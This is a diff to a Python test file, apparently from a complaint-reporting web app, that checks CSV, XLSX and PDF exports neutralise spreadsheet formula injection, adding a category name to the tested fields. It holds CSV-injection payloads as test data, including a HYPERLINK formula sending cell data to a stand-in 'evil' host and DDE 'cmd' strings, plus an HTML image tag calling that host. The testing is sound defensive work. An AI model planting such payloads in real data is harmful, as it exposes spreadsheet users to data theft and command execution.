@@ -1,7 +1,7 @@
 """Every export is inert: text a spreadsheet would run as a formula reaches the CSV files and the
 XLSX report as text, and the PDF's HTML source shows hostile text escaped. Formula payloads are
 put in every free-text field that reaches an export: the complaint's title, the reporter's name,
-a survey suggestion, each field of an improvement action, and an OPD's name."""
+a category's and an OPD's name, a survey suggestion and each field of an improvement action."""
 
 from __future__ import annotations
 
@@ -19,7 +19,7 @@ from engine.evaluation.report_tables import report_tables
 from engine.evaluation.reports import render_html, render_xlsx
 from engine.evaluation.summary import evaluate
 from engine.messages import looks_like_formula
-from engine.reference.tables import Opd
+from engine.reference.tables import Category, Opd
 from tests.evaluation.data import add_answer, add_complaint
 from tests.walk import Walk, wib
 from tests.webui.pages import Pages
@@ -28,6 +28,7 @@ from webui.wiring import Services
 PAYLOADS = ('=HYPERLINK("http://evil/?x="&A1,"Klik")', "+cmd|' /C calc'!A0", "-2+3+cmd|x",
             "@SUM(1+1)*cmd|x", "＝1+1 lebar")
 HTML_PAYLOAD = '<img src="http://evil/x.png">'
+CATEGORY = "=cmd|' /C notepad'!A0"
 
 
 def _seed(services: Services) -> None:
@@ -77,7 +78,12 @@ def _csv(text: str) -> list[list[str]]:
     return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
 
 
-def test_the_csv_exports_quote_every_formula(pages: Pages, walk: Walk) -> None:
+def test_the_csv_exports_quote_every_formula(pages: Pages, walk: Walk,
+                                             services: Services) -> None:
+    with services.uow() as uow:  # a category's name is typed by an admin
+        uow.session.execute(update(Category).where(Category.code == "4").values(
+            name=CATEGORY))
+        uow.commit()
     for payload in PAYLOADS:
         walk.file(title=payload, name=payload)
     walk.user("tim_admin")
@@ -89,3 +95,4 @@ def test_the_csv_exports_quote_every_formula(pages: Pages, walk: Walk) -> None:
         cells = [c for row in rows[1:] for c in row]
         assert not [c for c in cells if looks_like_formula(c)]
         assert {p for p in PAYLOADS if f"'{p}" in cells} == set(PAYLOADS)
+    assert f"'{CATEGORY}" in [c for row in book[1:] for c in row]
